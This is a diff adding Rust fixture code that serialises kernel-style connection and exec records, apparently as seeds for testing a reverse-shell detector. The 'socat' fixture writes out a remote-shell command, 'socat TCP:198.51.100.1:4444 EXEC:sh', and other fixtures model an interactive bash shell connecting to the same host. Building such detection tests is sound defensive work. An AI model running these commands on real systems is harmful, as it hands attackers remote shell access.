@@ -1,0 +1,150 @@
+//! Records as the kernel side writes them.
+
+use bytemuck::{Pod, Zeroable, bytes_of};
+use sensor_common::address::mapped;
+use sensor_common::record::{
+    ACCEPTED, Arm, ConnectionRecord, ExecRecord, FLAG_I, FLAG_UNSEARCHED, Lineage, PATH_CUT, PATH_DETACHED,
+    PATH_UNREADABLE, REASON_PARENT, REASON_PRESSURE, WITNESS_ACCEPT, WITNESS_CONNECT, WITNESS_GRAFT, WITNESS_PROC,
+};
+
+/// When the events were, in nanoseconds since boot.
+const AT: u64 = 3_600_000_000_000;
+
+pub(super) fn seeds() -> Vec<(String, Vec<u8>)> {
+    let whole = executed();
+    let [short, header] = [whole.len() - 3, 600].map(|length| whole.iter().take(length).copied().collect());
+    [
+        ("attempted", attempted()),
+        ("accepted", accepted()),
+        ("found-in-proc", found()),
+        ("exec", whole),
+        ("exec-short", short),
+        ("no-header", header),
+        ("exec-cut", cut()),
+        ("exec-of-socat", socat()),
+    ]
+    .map(|(name, bytes)| (name.to_owned(), bytes))
+    .into()
+}
+
+/// A shell that connected.
+pub(super) fn attempted() -> Vec<u8> {
+    record(&ConnectionRecord { arm: arm(), lineage: lineage(), ..Zeroable::zeroed() }, b"bash\0bin\0usr\0", b"")
+}
+
+/// A shell executed by the same process.
+pub(super) fn executed() -> Vec<u8> {
+    record(&ExecRecord { arm: arm(), ..exec() }, b"bash\0bin\0usr\0", b"bash\0-i\0")
+}
+
+fn accepted() -> Vec<u8> {
+    let mut arm = Arm { direction: ACCEPTED, witness: WITNESS_ACCEPT | WITNESS_GRAFT, ..arm() };
+    arm.local = [0x20, 1, 0xd, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 9];
+    arm.remote = [0x20, 1, 0xd, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
+    arm.leader_comm = padded(b"\xffname");
+    let mut header = ConnectionRecord { arm, lineage: lineage(), ..Zeroable::zeroed() };
+    header.path.state = PATH_DETACHED;
+    record(&header, b"memfd:x\0", b"")
+}
+
+fn found() -> Vec<u8> {
+    let arm = Arm { witness: WITNESS_PROC, local_port: 0, exe: padded(&[b'x'; 31]), ..arm() };
+    record(&ConnectionRecord { arm, ..Zeroable::zeroed() }, b"", b"")
+}
+
+fn cut() -> Vec<u8> {
+    let mut header = ExecRecord { argv_total: 20_000, reason: REASON_PRESSURE, ..exec() };
+    header.flags = FLAG_I | FLAG_UNSEARCHED;
+    header.path.state = PATH_CUT;
+    header.loginuid = u32::MAX;
+    header.lineage.more = 1;
+    record(&header, b"zsh\0deep\0", b"zsh\0-c\0ech")
+}
+
+fn socat() -> Vec<u8> {
+    let mut header = ExecRecord { comm: padded(b"socat"), reason: REASON_PARENT, ..exec() };
+    header.path.state = PATH_UNREADABLE;
+    record(&header, b"socat1\0bin\0", b"socat\0TCP:198.51.100.1:4444\0EXEC:sh\0")
+}
+
+fn arm() -> Arm {
+    Arm {
+        sequence: 7,
+        boot_ns: AT,
+        start_ns: AT - 1_000_000,
+        tgid: 4242,
+        tid: 4242,
+        uid: 1000,
+        gid: 1000,
+        local: mapped([10, 0, 0, 9]),
+        remote: mapped([198, 51, 100, 1]),
+        local_port: 40_000,
+        remote_port: 4444,
+        witness: WITNESS_CONNECT,
+        comm: padded(b"bash"),
+        leader_comm: padded(b"bash"),
+        exe: padded(b"bash"),
+        ..Zeroable::zeroed()
+    }
+}
+
+fn exec() -> ExecRecord {
+    ExecRecord {
+        boot_ns: AT + 20_000_000,
+        start_ns: AT - 1_000_000,
+        tgid: 4242,
+        old_tid: 4243,
+        uid: 1000,
+        gid: 1000,
+        argc: 2,
+        comm: padded(b"bash"),
+        lineage: lineage(),
+        ..Zeroable::zeroed()
+    }
+}
+
+fn lineage() -> Lineage {
+    let mut lineage = Lineage { count: 2, ..Zeroable::zeroed() };
+    for (place, ancestor) in lineage.ancestors.iter_mut().take(2).enumerate() {
+        (ancestor.tgid, ancestor.start_ns) = if place == 0 { (4000, AT - 5_000_000) } else { (1, 1) };
+        (ancestor.comm, ancestor.exe) = (padded(b"bash"), padded(b"bash"));
+    }
+    lineage
+}
+
+fn padded<const N: usize>(text: &[u8]) -> [u8; N] {
+    let mut bytes = [0; N];
+    for (to, from) in bytes.iter_mut().zip(text) {
+        *to = *from;
+    }
+    bytes
+}
+
+/// A header with what it announces.
+fn record<T: Pod + Announces>(header: &T, path: &[u8], argv: &[u8]) -> Vec<u8> {
+    let mut header = *header;
+    header.announce(path, argv);
+    [bytes_of(&header), path, argv].concat()
+}
+
+trait Announces {
+    fn announce(&mut self, path: &[u8], argv: &[u8]);
+}
+
+impl Announces for ConnectionRecord {
+    fn announce(&mut self, path: &[u8], _: &[u8]) {
+        self.path.len = length(path);
+    }
+}
+
+impl Announces for ExecRecord {
+    fn announce(&mut self, path: &[u8], argv: &[u8]) {
+        self.path.len = length(path);
+        self.argv_len = length(argv);
+        self.argv_total = self.argv_total.max(argv.len() as u64);
+    }
+}
+
+fn length(bytes: &[u8]) -> u32 {
+    u32::try_from(bytes.len()).expect("short")
+}
